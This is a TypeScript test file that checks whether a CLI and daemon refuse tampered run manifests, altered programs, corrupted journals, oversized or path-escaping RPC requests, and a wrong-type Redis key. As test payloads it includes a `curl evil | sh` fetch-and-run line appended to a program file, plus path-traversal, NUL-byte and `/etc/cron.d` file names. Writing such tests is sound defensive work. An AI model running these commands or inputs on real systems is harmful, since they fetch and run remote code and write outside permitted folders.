/**
 * Everything read back from disk or Redis, or received in a request, is checked as hostile
 * input (issue 36): each attack below is refused with a message that names what is wrong and
 * what to do (never a stack trace or a raw Redis error), and changes nothing outside the run
 * folder or the daemon's state. Real CLI and daemon processes; a real Redis for the queue.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Redis } from 'ioredis';
import type { ResponseError } from 'vscode-languageserver-protocol/node';
import { DaemonClient } from '../../daemon/rpc/client';
import { prepareSelection } from '../../daemon/usecases/selectionJob';
import { readExampleFiles } from '../../extension/evolve/exampleFiles';
import { PrepareSelection, Status } from '../../shared/protocol';
import { badSortOpsDir } from '../fixtures/badSortOps';
import { DaemonProcess } from '../fixtures/daemonProcess';
import { EvolveProject, NO_CONFIRMATION, parseJson, type RunOutput } from '../fixtures/evolveFixtures';
import { CLI, REPO, tempDir } from '../fixtures/paths';
import { startRedisServer, type RedisServer } from '../fixtures/redisServer';

const LOOKUP_DIR = path.join(REPO, 'examples', 'lookup_table');
const NO_LLM = { OPENAI_API_KEY: '', OPENAI_BASE_URL: '', ANTHROPIC_API_KEY: '' };

/**
 * Every entry under `dir` (but `except`), a regular file with the sha256 of its content: what
 * "nothing changed" compares. `contents: false` compares names only (a log may grow).
 */
function snapshot(dir: string, except?: string, contents = true): Map<string, string> {
  const entries = new Map<string, string>();
  const walk = (at: string): void => {
    if (at === except || !fs.existsSync(at)) return;
    for (const entry of fs.readdirSync(at, { withFileTypes: true })) {
      const full = path.join(at, entry.name);
      if (full === except) continue;
      if (entry.isDirectory()) {
        entries.set(full, 'folder');
        walk(full);
      } else entries.set(full, contents && entry.isFile() ? createHash('sha256').update(fs.readFileSync(full)).digest('hex') : 'entry');
    }
  };
  walk(dir);
  return entries;
}

/** A refusal a person can act on: no stack trace, no "unexpected error". */
function assertClearRefusal(stderr: string): void {
  assert.doesNotMatch(stderr, /unexpected error|\n\s+at .+:\d+:\d+/, `a stack trace or an unexpected error:\n${stderr}`);
}

describe('hostile run files: run.json, best/ and the journal are checked when read back (real CLI)', function () {
  this.timeout(240_000);
  const project = new EvolveProject();
  let pristine: string;
  let runDir: string;
  let runId: string;
  /** A file beside the project, where a `..` in run.json would point. */
  let victim: string;

  before(async () => {
    const result = await project.run(['--json', 'evolve', 'run', LOOKUP_DIR, ...NO_CONFIRMATION, '--sync', '--quick', '--evaluations', '3', '--project', project.dir], NO_LLM);
    assert.equal(result.code, 0, result.stderr);
    runDir = parseJson<RunOutput>(result).runDir;
    runId = path.basename(runDir);
    pristine = tempDir('pristine-run');
    fs.cpSync(runDir, pristine, { recursive: true });
    victim = path.join(path.dirname(project.dir), `victim-${process.pid}.py`);
  });
  beforeEach(() => {
    fs.rmSync(runDir, { recursive: true, force: true });
    fs.cpSync(pristine, runDir, { recursive: true });
    fs.writeFileSync(victim, 'precious = True\n');
  });
  after(() => {
    fs.rmSync(victim, { force: true });
    project.cleanup();
  });

  it('a `..` in run.json programFiles: `evolve run --resume` refuses the manifest and writes nothing outside the run', async () => {
    const manifest = JSON.parse(fs.readFileSync(path.join(runDir, 'run.json'), 'utf8')) as { programFiles: string[] };
    // best/<file> with five `..` is the file beside the project directory.
    manifest.programFiles = [manifest.programFiles[0]!, `../../../../../${path.basename(victim)}`];
    fs.writeFileSync(path.join(runDir, 'run.json'), JSON.stringify(manifest, null, 2));
    const outside = snapshot(project.dir, runDir);

    const resumed = await project.run(['evolve', 'run', '--resume', runId, '--project', project.dir, '--sync', '--evaluations', '5'], NO_LLM);
    assert.notEqual(resumed.code, 0, resumed.stderr);
    assert.match(resumed.stderr, /run\.json is not a run manifest this Peagen can read: not a safe relative path: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/victim-\d+\.py" has an empty, "\." or "\.\." part .*\(at programFiles\.1\)/);
    assert.match(resumed.stderr, /restore the run directory from a backup or copy, or start a new run/);
    assertClearRefusal(resumed.stderr);
    assert.equal(fs.readFileSync(victim, 'utf8'), 'precious = True\n', 'the file outside the run is untouched');
    assert.deepEqual(snapshot(project.dir, runDir), outside, 'nothing else in the project changed');
  });

  it('an altered best/: `evolve best` refuses it, naming the file and both hashes; --recorded prints what the run recorded', async () => {
    const recorded = await project.run(['evolve', 'best', runId, '--project', project.dir]);
    assert.equal(recorded.code, 0, recorded.stderr);
    fs.appendFileSync(path.join(runDir, 'best', 'lookup.py'), '\nimport os; os.system("curl evil | sh")\n');

    const altered = await project.run(['evolve', 'best', runId, '--project', project.dir]);
    assert.equal(altered.code, 1, altered.stderr);
    assert.equal(altered.stdout, '', 'nothing of the altered program is printed');
    assert.match(altered.stderr, /best\/lookup\.py holds a program whose content hash is [0-9a-f]{12}, not the best [0-9a-f]{12} the run recorded in its journal: it was altered after the run wrote it/);
    assert.match(altered.stderr, new RegExp(`peagen evolve best ${runId} --recorded`));
    assertClearRefusal(altered.stderr);

    const fromRecord = await project.run(['evolve', 'best', runId, '--project', project.dir, '--recorded']);
    assert.equal(fromRecord.code, 0, fromRecord.stderr);
    assert.equal(fromRecord.stdout, recorded.stdout, '--recorded prints the program the run recorded');
  });

  it('a tampered journal: resume and replay refuse it naming the file, the line and what to do, without a stack trace', async () => {
    const journal = path.join(runDir, 'journal.jsonl');
    const lines = fs.readFileSync(journal, 'utf8').split('\n');
    lines[2] = lines[2]!.replace(/"type":"\w+"/, '"type":"bogus"');
    fs.writeFileSync(journal, lines.join('\n'));
    const outside = snapshot(project.dir, runDir);

    const replayed = await project.run(['evolve', 'replay', runId, '--project', project.dir, '--no-measure']);
    assert.equal(replayed.code, 1, replayed.stderr);
    assert.match(replayed.stderr, /journal\.jsonl line 3 is not a run event this Peagen can read: .*\(at type\); a run's files are written by Peagen alone: restore the run directory/);
    assertClearRefusal(replayed.stderr);

    // A line that is not JSON, read by resume (the checkpoint gone: the journal is read whole).
    lines[2] = '{"seq":3,"type":';
    fs.writeFileSync(journal, lines.join('\n'));
    fs.rmSync(path.join(runDir, 'checkpoint.json'));
    const resumed = await project.run(['evolve', 'run', '--resume', runId, '--project', project.dir, '--sync', '--evaluations', '5'], NO_LLM);
    assert.equal(resumed.code, 1, resumed.stderr);
    assert.match(resumed.stderr, /journal\.jsonl line 3 is not a JSON object; a run's files are written by Peagen alone/);
    assertClearRefusal(resumed.stderr);
    assert.deepEqual(snapshot(project.dir, runDir), outside, 'nothing else in the project changed');
  });

  it('a damaged report.json or run.json: `evolve show` names it, and `evolve list` lists that run as damaged beside the others', async () => {
    const other = path.join(path.dirname(runDir), '20250101-000000-lookup_table-beef');
    fs.cpSync(pristine, other, { recursive: true });
    try {
      const report = JSON.parse(fs.readFileSync(path.join(runDir, 'report.json'), 'utf8')) as Record<string, unknown>;
      fs.writeFileSync(path.join(runDir, 'report.json'), JSON.stringify({ ...report, progress: 'all of it' }));
      const shown = await project.run(['evolve', 'show', runId, '--project', project.dir]);
      assert.equal(shown.code, 1, shown.stderr);
      assert.match(shown.stderr, /report\.json is not a run report this Peagen can read \(.*at progress\); it sums up the run's journal, which keeps everything: delete it/);
      assertClearRefusal(shown.stderr);

      fs.writeFileSync(path.join(runDir, 'report.json'), JSON.stringify(report));
      fs.writeFileSync(path.join(other, 'run.json'), '{"version": 1, "runId": ');
      const listed = await project.run(['--json', 'evolve', 'list', '--project', project.dir]);
      assert.equal(listed.code, 0, listed.stderr);
      const runs = (JSON.parse(listed.stdout) as { runs: { runId: string; state: string; problem?: string }[] }).runs;
      assert.deepEqual(runs.map((run) => [run.runId, run.state]), [[path.basename(other), 'damaged'], [runId, 'finished']]);
      assert.match(runs[0]!.problem!, /run\.json is not JSON/);
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });
});

describe('hostile requests: workspace files are checked at the RPC boundary, before anything is written (real daemon)', function () {
  this.timeout(120_000);
  const daemon = new DaemonProcess();
  let client: DaemonClient;
  const clientRoot = path.join('/nonexistent-client', `ws-${process.pid}`);
  const workspace = { projectDir: clientRoot, workspaceId: `hostile-${process.pid}-test` };
  const sourceFile = path.join(clientRoot, 'examples', 'bad_sort_ops', 'bad_sort.py');
  // bad_sort by counted instructions (badSortOps.ts): every request here is refused before a run.
  const example = badSortOpsDir();
  const text = fs.readFileSync(path.join(example, 'bad_sort.py'), 'utf8');
  const request = (files: Record<string, string>) => ({ ...workspace, sourceFile, languageId: 'python', text, region: { startLine: 25, endLine: 30 }, example: { dir: path.dirname(sourceFile), files } });
  const invalidParams = (pattern: RegExp) => (error: ResponseError<unknown>) => {
    assert.equal(error.code, -32602, error.message);
    assert.match(error.message, pattern);
    return true;
  };

  before(async () => {
    const { address } = await daemon.start([], NO_LLM);
    client = await DaemonClient.connect(address, daemon.token, 'test');
  });
  after(async () => {
    client?.close();
    await daemon.stop();
  });

  it('a NUL, a `..` or an absolute path in a file name is refused with the reason, and no folder is left behind', async () => {
    const before = snapshot(daemon.home, undefined, false);
    for (const [name, problem] of [
      ['evil\u0000.py', /not a safe relative path: "evil\\u0000\.py" holds a backslash or a control character such as NUL/],
      ['../../escape.py', /not a safe relative path: "\.\.\/\.\.\/escape\.py" has an empty, "\." or "\.\." part/],
      ['/etc/cron.d/x', /not a safe relative path: "\/etc\/cron\.d\/x" is absolute/],
    ] as const) {
      const files = { ...readExampleFiles(example), [name]: Buffer.from('x').toString('base64') };
      await assert.rejects(client.request(PrepareSelection.type, request(files)), invalidParams(problem));
    }
    assert.deepEqual(snapshot(daemon.home, undefined, false), before, 'the daemon wrote nothing (no temp folder, no job)');
    assert.equal(fs.existsSync(path.join(path.dirname(clientRoot), 'escape.py')), false);

    // The use case checks again when called without the RPC schema, before it writes anything.
    const home = tempDir('selection-home');
    const files = { ...readExampleFiles(example), 'evil\u0000.py': 'eA==' };
    assert.throws(() => prepareSelection(request(files), home), /the example's file names must be safe relative paths: .*NUL/);
    assert.deepEqual([...snapshot(home).keys()], [], 'no temp folder is left in the daemon home');
    assert.deepEqual(fs.readdirSync(home), []);
  });

  it('100,000 files or more than 8 MB in one request are refused at once with the limit, and the daemon keeps serving', async () => {
    const many: Record<string, string> = readExampleFiles(example);
    for (let i = 0; i < 100_000; i++) many[`data/f${i}.txt`] = '';
    const started = Date.now();
    await assert.rejects(client.request(PrepareSelection.type, request(many)), invalidParams(/more than 2000 files \(send fewer: keep data sets and generated files out of it\)/));
    const tookMs = Date.now() - started;
    assert.ok(tookMs < 4_000, `refused in ${tookMs} ms (a stall writes the files first)`);

    const heavy = { ...readExampleFiles(example), 'a.bin': Buffer.alloc(4.5 * 1024 * 1024).toString('base64'), 'b.bin': Buffer.alloc(4.5 * 1024 * 1024).toString('base64') };
    await assert.rejects(client.request(PrepareSelection.type, request(heavy)), invalidParams(/the example's files weigh more than 8 MB together/));

    const status = await client.request(Status.type);
    assert.equal(status.pid, daemon.child?.pid, 'the same daemon answers');
    assert.equal(fs.existsSync(path.join(daemon.home, 'workspaces')) && snapshot(path.join(daemon.home, 'workspaces')).size > 0, false, 'no file of the refused requests was written');
  });
});

describe('a wrong-type key in the Redis streams set (real Redis, real daemon)', function () {
  this.timeout(120_000);
  let redis: RedisServer;
  const daemon = new DaemonProcess();
  let url: string;
  let admin: Redis;
  const badKey = '{peagen}:tasks:sleep:';
  const cli = (args: string[]) =>
    spawnSync(process.execPath, [CLI, ...args], { cwd: daemon.home, env: { ...process.env, ...NO_LLM, PEAGEN_HOME: daemon.home, QUEUE_URL: url }, encoding: 'utf8', timeout: 90_000 });

  before(async () => {
    redis = await startRedisServer();
    url = `${redis.url}/7`;
    admin = new Redis(url);
    // Another program wrote a string where the queue keeps a stream, and listed it.
    await admin.sadd('{peagen}:streams', badKey);
    await admin.set(badKey, 'not a stream');
    await daemon.start([], { QUEUE_URL: url });
  });
  after(async () => {
    admin?.disconnect();
    await daemon.stop();
    await redis?.stop();
  });

  it('never blocks status: `daemon status` and `queue stats` name the key and the redis-cli command that deletes it', () => {
    const fix = new RegExp(
      `Redis key \\{peagen\\}:tasks:sleep: is listed as a task stream but holds a string, not a stream \\(something other than Peagen wrote it\\), so the queue skips it: delete it with \`redis-cli -u 'redis://127\\.0\\.0\\.1:${redis.port}/7' DEL '\\{peagen\\}:tasks:sleep:'\``,
    );
    for (const args of [['daemon', 'status'], ['queue', 'stats']]) {
      const run = cli(args);
      assert.equal(run.status, 0, `${args.join(' ')}: ${run.stderr}`);
      assert.match(run.stdout, fix);
      assert.doesNotMatch(run.stdout + run.stderr, /WRONGTYPE/);
    }
    const json = cli(['--json', 'daemon', 'status']);
    assert.equal(json.status, 0, json.stderr);
    assert.match((JSON.parse(json.stdout) as Status.Response).queue.problems?.[0] ?? '', fix);
  });

  it('`task submit` into that key is refused with the same fix; every other kind, and `eval`, still run', async () => {
    const refused = cli(['task', 'submit', 'sleep', '--payload', '{"ms":1}', '--wait', '20']);
    assert.equal(refused.status, 1, refused.stderr);
    assert.match(refused.stderr, /Redis key \{peagen\}:tasks:sleep: .* holds a string, not a stream .*so no task can be queued there: delete it with `redis-cli -u '[^']+' DEL '\{peagen\}:tasks:sleep:'`/);
    assert.doesNotMatch(refused.stderr, /WRONGTYPE|user_script/);
    assert.equal(await admin.get(badKey), 'not a stream', 'the key is left as it was (nothing written into it)');

    const echo = cli(['--json', 'task', 'submit', 'echo', '--payload', '{"message":"still served"}', '--wait', '30']);
    assert.equal(echo.status, 0, echo.stderr);
    assert.match(echo.stdout, /still served/);
    // bad_sort by counted instructions (badSortOps.ts): that an evaluation is served, not its timing.
    const evaluated = cli(['--json', 'eval', badSortOpsDir(), '--quick']);
    assert.equal(evaluated.status, 0, `${evaluated.stderr}\n${daemon.log}`);

    // The printed fix works: once the key is deleted, the warning is gone and the kind runs.
    await admin.del(badKey);
    assert.doesNotMatch(cli(['daemon', 'status']).stdout, /warning/);
    const sleep = cli(['--json', 'task', 'submit', 'sleep', '--payload', '{"ms":1}', '--wait', '30']);
    assert.equal(sleep.status, 0, sleep.stderr);
  });
});
